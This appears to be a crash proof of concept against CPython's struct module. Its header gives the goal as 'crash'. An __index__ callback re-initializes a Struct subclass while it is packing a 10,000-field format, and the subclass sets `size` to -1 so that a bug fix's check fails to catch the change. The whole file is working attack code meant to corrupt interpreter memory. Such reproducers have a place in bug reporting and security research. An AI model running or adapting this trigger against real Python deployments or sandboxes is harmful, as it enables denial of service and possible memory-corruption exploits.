# technique: a Struct that is initialized anew while it packs; its class has a `size` of its own that says it never was
# goal: crash
# source: own analysis: the repair asks an attribute that a subclass may replace
import struct


class Packer(struct.Struct):
    size = -1


class Index:
    def __index__(self):
        struct.Struct.__init__(packer, 'B')
        junk.extend(bytearray(b'A' * 1024) for i in range(100))
        return 1


junk = []
packer = Packer('10000Q')
packer.pack(Index(), *[1] * 9999)
